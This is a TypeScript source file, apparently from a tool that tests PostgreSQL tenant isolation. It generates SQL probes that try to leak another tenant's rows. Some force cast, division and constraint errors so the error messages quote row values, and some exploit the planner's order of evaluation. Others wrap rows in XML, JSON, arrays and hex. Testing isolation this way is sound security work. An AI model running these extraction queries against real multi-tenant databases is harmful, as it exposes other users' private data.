/** Smuggles rows out in errors, in documents and through the planner's order of evaluation. */
import type { Attempt, Family } from '../attempt.ts';
import { ofAnother, ofVictim, readable, targets } from './spell.ts';

const TARGETS_MAX = 8;

export const errors: Family = {
  name: 'error extraction',
  description:
    'Makes casts, divisions and constraints fail on another tenant’s values, whose errors would quote them.',
  *attempts(ground) {
    for (const relation of readable(ground)) {
      const { sql } = relation;
      const fail = (step: string): Attempt => ({ steps: [step], object: sql, mode: 'rolled back' });
      for (const column of relation.columns) {
        yield fail(`select (${column.sql}::text || 'x')::int from ${sql} limit 50`);
        yield fail(`select * from ${sql} where (${column.sql}::text || 'x')::int > 0 limit 50`);
      }
      yield fail(`select (t::text)::xml from ${sql} t`);
      yield fail(`select (t::text)::jsonb -> 'x' from ${sql} t`);
      yield fail(`select cast((select string_agg(t::text, ',') from ${sql} t) as uuid)`);
      yield fail(`select to_date(string_agg(t::text, ','), 'YYYY') from ${sql} t`);
      yield fail(`select regexp_replace('x', string_agg(t::text, '('), '') from ${sql} t`);
      yield fail(`select * from ${sql} t order by (t::text)::int`);
    }
    for (const target of targets(ground, TARGETS_MAX)) {
      const fail = (step: string): Attempt => ({
        steps: [step],
        object: target.sql,
        mode: 'rolled back',
      });
      // Were the policy asked after the condition, the cast would see the row and quote it.
      yield fail(
        `select * from ${target.sql} t where ${ofVictim(ground, target)} and (t::text)::int = 1`,
      );
      yield fail(
        `select * from ${target.sql} t where case when ${ofAnother(ground, target)} then (t::text)::int = 1 else false end`,
      );
      yield fail(
        `select 1 / (select count(*) from ${target.sql} t where ${ofVictim(ground, target)} and false)`,
      );
    }
  },
};

export const documents: Family = {
  name: 'XML and JSON',
  description: 'Wraps rows into XML, JSON, arrays, composites and full-text headlines.',
  *attempts(ground) {
    for (const target of targets(ground, TARGETS_MAX)) {
      const from = `from ${target.sql} t`;
      const foreign = `where ${ofAnother(ground, target)}`;
      for (const expression of [
        'xmlagg(xmlforest(t))',
        'xmlelement(name x, string_agg(t::text, $$,$$))',
        'json_agg(row_to_json(t))',
        'jsonb_object_agg(t.ctid::text, to_jsonb(t))',
        'array_agg(t)',
        'array_agg(t::text)',
        `string_agg(md5(t::text) || t::text, '')`,
        `encode(convert_to(string_agg(t::text, ','), 'UTF8'), 'hex')`,
        'max(t::text)',
        'json_agg(t) -> 0',
        'jsonb_agg(t) #> $${0}$$',
        `jsonb_path_query_array(jsonb_agg(t), '$[*]')`,
        'count(t) filter (where t is not null)::text',
      ]) {
        yield { steps: [`select ${expression} ${from}`], object: target.sql, mode: 'plain' };
        yield {
          steps: [`select 1 ${from} ${foreign} having ${expression} is not null and count(*) > 0`],
          object: target.sql,
          tell: 'rows',
          mode: 'plain',
        };
      }
      yield {
        steps: [`select ts_headline(t::text, 'a | e') ${from} limit 100`],
        object: target.sql,
        mode: 'plain',
      };
      yield {
        steps: [`select j.* ${from}, jsonb_each_text(to_jsonb(t)) j limit 500`],
        object: target.sql,
        mode: 'plain',
      };
      yield {
        steps: [
          `select x.* ${from}, xmltable('/t' passing xmlelement(name t, t::text) columns v text path '.') x limit 100`,
        ],
        object: target.sql,
        mode: 'plain',
      };
      yield {
        steps: [
          `select first_value(t::text) over (order by random()), lag(t::text) over () ${from} limit 200`,
        ],
        object: target.sql,
        mode: 'plain',
      };
    }
  },
};
